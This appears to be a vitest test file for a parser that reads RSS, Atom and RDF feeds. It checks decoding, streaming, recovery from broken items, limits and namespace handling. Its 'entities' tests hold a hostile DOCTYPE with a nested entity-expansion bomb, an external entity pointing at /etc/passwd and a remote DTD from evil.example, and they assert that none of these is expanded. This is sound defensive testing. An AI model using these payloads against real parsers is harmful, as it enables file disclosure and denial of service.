import { describe, expect, it } from 'vitest'
import { readText, type TextReading } from './readText.ts'

function rss(items: string, channel = ''): string {
  return `<?xml version="1.0"?>\n<rss version="2.0"><channel><title>Feed</title>${channel}${items}</channel></rss>`
}

function item(id: number | string, inner = ''): string {
  return `<item><guid>${id}</guid><title>Post ${id}</title>${inner}</item>`
}

function idsOf({ drafts }: TextReading): string[] {
  return drafts.map(({ post }) => post.id)
}

const namespaces =
  'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'

describe('markup in a body', () => {
  it.each([
    [
      'RSS, in a CDATA section',
      rss(item(1, '<content:encoded><![CDATA[<code>&lt;script&gt;</code>]]></content:encoded>')),
    ],
    [
      'RSS, escaped',
      rss(
        item(
          1,
          '<content:encoded>&lt;code&gt;&amp;lt;script&amp;gt;&lt;/code&gt;</content:encoded>',
        ),
      ),
    ],
    [
      'RSS, in a description',
      rss(item(1, '<description><![CDATA[<code>&lt;script&gt;</code>]]></description>')),
    ],
    [
      'Atom, in a CDATA section',
      '<feed><entry><id>1</id><content type="html"><![CDATA[<code>&lt;script&gt;</code>]]></content></entry></feed>',
    ],
    [
      'Atom, escaped',
      '<feed><entry><id>1</id><content type="html">&lt;code&gt;&amp;lt;script&amp;gt;&lt;/code&gt;</content></entry></feed>',
    ],
    [
      'Atom, as XHTML',
      '<feed><entry><id>1</id><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><code>&lt;script&gt;</code></div></content></entry></feed>',
    ],
    [
      'RDF',
      '<RDF><item about="1"><link>/1</link><content:encoded>&lt;code&gt;&amp;lt;script&amp;gt;&lt;/code&gt;</content:encoded></item></RDF>',
    ],
  ])('is decoded exactly once: %s', async (_where, text) => {
    const { drafts, fault } = await readText(text)
    expect(fault).toBeUndefined()
    expect(drafts.map(({ post }) => post.html)).toEqual(['<code>&lt;script&gt;</code>'])
  })
})

describe('a feed on its way', () => {
  it('gives its first posts before the rest has arrived', async () => {
    const text = rss(Array.from({ length: 60 }, (_, at) => item(at, 'x'.repeat(1000))).join(''))
    const { progress } = await readText(text, { chunk: 4096 })
    expect(progress[0]!.drafts.map(({ post }) => post.id)).toEqual(['0', '1', '2'])
    expect(progress[0]).toMatchObject({ format: 'rss', details: { title: 'Feed' } })
  })

  it('is the same whatever pieces it comes in', async () => {
    const text = rss(
      `${item(1)}<language>cy</language>${item(2)}`,
      '<link>https://feed.example/</link>',
    )
    const whole = await readText(text)
    expect(whole.details).toEqual({
      title: 'Feed',
      homePageUrl: 'https://feed.example/',
      language: 'cy',
    })
    for (let chunk = 1; chunk < 200; chunk++) {
      const { drafts, details } = await readText(text, { chunk })
      expect({ chunk, drafts, details }).toEqual({
        chunk,
        drafts: whole.drafts,
        details: whole.details,
      })
    }
  })

  it('is taken in 25 posts at a time', async () => {
    const text = rss(Array.from({ length: 60 }, (_, at) => item(at)).join(''))
    const { progress } = await readText(text)
    expect(progress.map(({ drafts }) => drafts.length)).toEqual([25, 25, 10, 0])
  })

  it('without posts says what it is called', async () => {
    expect(await readText(rss(''))).toMatchObject({
      drafts: [],
      problems: [],
      details: { title: 'Feed' },
      fault: undefined,
    })
  })

  it('gives a post the same revision at each reading, and another when it changes', async () => {
    const revisions = async (text: string) =>
      (await readText(text)).drafts.map(({ post }) => post.revision)
    const [first, second] = await revisions(rss(item(1) + item(2)))
    expect(await revisions(rss(`\n ${item(2)}\n`))).toEqual([second])
    expect(await revisions(rss(item(1, '<category>new</category>')))).not.toEqual([first])
  })
})

describe('one broken item costs only itself', () => {
  it.each([
    ['a title left open', '<item><title>Broken<guid>2</guid></item>', 'Broken'],
    ['a bare bracket in the title', '<item><title>5 < 6</title></item>', '5 < 6'],
    ['an element never opened', '<item></b><guid>2</guid><title>Post 2</title></item>', 'Post 2'],
    ['a name that parsers refuse', item(2, '<__proto__>x</__proto__>'), 'Post 2'],
    ['a title in a CDATA section', '<item><title><![CDATA[A & B]]></title><link>b</item>', 'A & B'],
  ])('%s', async (_what, broken, title) => {
    const text = rss(item(1) + broken + item(3, '<link>https://feed.example/3</link>'))
    const reading = await readText(text)
    expect(idsOf(reading)).toEqual(['1', '3'])
    expect(reading.problems).toEqual([{ code: 'unreadable', position: 2, ...(title && { title }) }])
    expect(reading.drafts[1]!.post.url).toBe('https://feed.example/3')
  })

  it('an empty one has no id', async () => {
    const reading = await readText(rss(`${item(1)}<item/><item><title/></item>${item(4)}`))
    expect(idsOf(reading)).toEqual(['1', '4'])
    expect(reading.problems.map(({ code, position }) => [code, position])).toEqual([
      ['no-id', 2],
      ['no-id', 3],
    ])
  })

  it('one that goes too deep or is too long keeps its place in the count', async () => {
    const deep = item(2, '<a>'.repeat(30) + '</a>'.repeat(30))
    const text = rss(item(1) + deep + item(3, 'x'.repeat(2000)) + item(4))
    const reading = await readText(text, { limits: { depth: 20, itemLength: 1000 } })
    expect(idsOf(reading)).toEqual(['1', '4'])
    expect(reading.problems).toEqual([
      { code: 'too-deep', position: 2 },
      { code: 'too-long', position: 3 },
    ])
  })

  it('a broken head leaves the posts', async () => {
    const text = rss(item(1), '<link>https://feed.example/<b></link>')
    expect(idsOf(await readText(text))).toEqual(['1'])
  })
})

describe('a document as a whole', () => {
  it.each([
    ['nothing', '', 'not-xml'],
    ['a text', 'Sorry, no feed today.', 'not-xml'],
    ['JSON', '{"items":[]}', 'not-xml'],
    ['a prolog alone', '<?xml version="1.0"?>\n', 'not-xml'],
    ['a web page', '<!doctype html><html><p>Hello</html>', 'not-a-feed'],
    ['a list of feeds', '<opml version="2.0"><body/></opml>', 'not-a-feed'],
    ['a site map', '<urlset><url><loc>https://a.example/</loc></url></urlset>', 'not-a-feed'],
    ['a name that every object has', '<constructor><item/></constructor>', 'not-a-feed'],
    ['a feed that ends in its first tag', '<?xml version="1.0"?><rss vers', 'cut-off'],
    ['a feed that ends in its head', '<rss version="2.0"><channel><title>Fe', 'cut-off'],
  ])('is refused when it is %s', async (_what, text, fault) => {
    const reading = await readText(text)
    expect(reading.fault).toMatchObject({ name: 'FeedFormatError', fault })
    expect(reading.drafts).toEqual([])
  })

  it('gives every whole post and then tells that it is cut off, wherever the cut is', async () => {
    const text = rss(item(1) + item(2) + item(3))
    const ends = [1, 2, 3].map((id) => text.indexOf(item(id)) + item(id).length)
    for (let cut = text.indexOf('<rss') + 1; cut < text.length; cut++) {
      const reading = await readText(text.slice(0, cut))
      const whole = ends.filter((end) => end <= cut).length
      expect({ cut, ids: idsOf(reading) }).toEqual({ cut, ids: ['1', '2', '3'].slice(0, whole) })
      expect(reading.fault).toMatchObject({ name: 'FeedFormatError', fault: 'cut-off' })
    }
  })

  it.each([
    [
      'rss',
      '<rss version="0.91"><channel><item><link>/1</link><title>T</title></item></channel></rss>',
    ],
    ['rss', '<rss version="0.90"><channel/><item><link>/1</link><title>T</title></item></rss>'],
    [
      'rss',
      '<RSS VERSION="2.0"><CHANNEL><ITEM><GUID>1</GUID><TITLE>T</TITLE></ITEM></CHANNEL></RSS>',
    ],
    [
      'rss',
      '<rss xmlns="http://www.w3.org/2005/Atom"><channel><item><guid>1</guid><title>T</title></item></channel></rss>',
    ],
    [
      'rss',
      '<rss xmlns="http://purl.org/rss/1.0/"><channel><item><guid>1</guid><title>T</title></item></channel></rss>',
    ],
    [
      'atom',
      '<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>T</title></entry></feed>',
    ],
    [
      'atom',
      '<a:feed xmlns:a="http://www.w3.org/2005/Atom"><a:entry><a:id>1</a:id><a:title>T</a:title></a:entry></a:feed>',
    ],
    [
      'atom',
      '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><entry><id>1</id><title>T</title></entry></feed>',
    ],
    [
      'rdf',
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"><channel/><item rdf:about="1"><title>T</title></item></rdf:RDF>',
    ],
    [
      'rdf',
      '<RDF xmlns="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:r="http://purl.org/rss/1.0/"><r:item about="1"><r:title>T</r:title></r:item></RDF>',
    ],
  ])('is read as %s: %s', async (format, text) => {
    const { drafts, progress, problems, fault } = await readText(text)
    expect({ problems, fault }).toEqual({ problems: [], fault: undefined })
    expect(drafts.map(({ post }) => post.title)).toEqual(['T'])
    expect(progress[0]!.format).toBe(format)
  })
})

describe('limits', () => {
  it('end a feed of too many items, and what came before is kept', async () => {
    const text = rss(Array.from({ length: 60 }, (_, at) => item(at)).join(''))
    const reading = await readText(text, { limits: { items: 53 } })
    expect(reading.fault).toMatchObject({ name: 'FeedLimitError', limit: 'items' })
    expect(reading.drafts).toHaveLength(53)
  })

  it('end a feed that goes too deep outside of its items', async () => {
    const text = rss(item(1), '<a>'.repeat(200_000) + '</a>'.repeat(200_000))
    expect((await readText(text)).fault).toMatchObject({ name: 'FeedLimitError', limit: 'depth' })
  })

  it('leave out an item of 200,000 nested elements', async () => {
    const deep = item(1, '<a>'.repeat(200_000) + '</a>'.repeat(200_000))
    const reading = await readText(rss(deep + item(2)))
    expect(idsOf(reading)).toEqual(['2'])
    expect(reading.problems).toEqual([{ code: 'too-deep', position: 1 }])
  })

  it.each([
    ['brackets', '<'],
    ['tags that do not end', '<b '],
    ['titles that do not end', '<title'],
    ['addresses that do not end', '@'],
    ['comments that do not end', '<!--'],
    ['sections that do not end', '<description><![CDATA['],
    ['quotation marks', '<a href="'],
  ])('are not needed for an item of a million characters of %s', async (_what, text) => {
    const bad = `<item><dc:creator>${text.repeat(1_000_000 / text.length)}`
    const { drafts } = await readText(rss(`${item(1)}${bad}</dc:creator></item>${item(3)}`))
    expect(drafts[0]!.post.id).toBe('1')
  })
})

describe('entities', () => {
  const laughs = Array.from(
    { length: 12 },
    (_, at) => `<!ENTITY ha${at + 1} "${`&ha${at};`.repeat(10)}">`,
  ).join('\n')
  const doctype = `<!DOCTYPE rss [
    <!ENTITY ha0 "ha">
    ${laughs}
    <!ENTITY secret SYSTEM "file:///etc/passwd">
    <!ENTITY % remote SYSTEM "https://evil.example/x.dtd">
    %remote;
  ]>`

  it('that a document declares are not expanded: not nested ones, not files, not addresses', async () => {
    const text =
      doctype +
      rss(
        item(1, '<description>&ha12; &secret; &remote;</description>'),
        '<description>&ha12;</description>',
      )
    const { drafts, details, fault } = await readText(text)
    expect(fault).toBeUndefined()
    expect(drafts[0]!.post.html).toBe('&ha12; &secret; &remote;')
    expect(details.description).toBe('&ha12;')
  })

  it('are not expanded where the declaration stands inside an item', async () => {
    const reading = await readText(
      rss(item(1, `${doctype}<description>&ha12;</description>`) + item(2)),
    )
    for (const { post } of reading.drafts) expect(post.html.length).toBeLessThan(100)
    expect(idsOf(reading)).toContain('2')
  })

  it.each([
    ['a bare ampersand', 'Salt & pepper', 'Salt & pepper'],
    ['an entity of HTML', 'Caf&eacute;&nbsp;&hellip;', 'Café …'],
    ['a number', '&#8217;&#x1F600;', '’😀'],
    ['one that nobody declared', '&nonsense; here', '&nonsense; here'],
  ])('of other kinds are let pass: %s', async (_what, written, title) => {
    const text = rss(`<item><guid>1</guid><title>${written}</title></item>`)
    expect((await readText(text)).drafts[0]!.post.title).toBe(title)
  })
})

describe('prefixes', () => {
  const body = '<p>The whole text.</p>'
  it.each([
    ['declared on the root', `<rss ${namespaces}><channel>`, 'content', 'dc', ''],
    ['declared on the channel', `<rss><channel ${namespaces}>`, 'content', 'dc', ''],
    ['declared on the item', '<rss><channel>', 'content', 'dc', namespaces],
    ['not declared', '<rss><channel>', 'content', 'dc', ''],
    [
      'of other names',
      `<rss ${namespaces.replace('content=', 'full=').replace('dc=', 'dublin=')}><channel>`,
      'full',
      'dublin',
      '',
    ],
  ])('work when they are %s', async (_how, start, content, dc, onItem) => {
    const inner = `<${content}:encoded><![CDATA[${body}]]></${content}:encoded><${dc}:creator>Ada Lovell</${dc}:creator>`
    const text = `${start}${item(1).replace('<item>', `<item ${onItem}>${inner}`)}</channel></rss>`
    const [draft] = (await readText(text)).drafts
    expect(draft!.post.html).toBe(body)
    expect(draft!.post.authors).toEqual([{ name: 'Ada Lovell', slug: 'ada-lovell' }])
  })
})
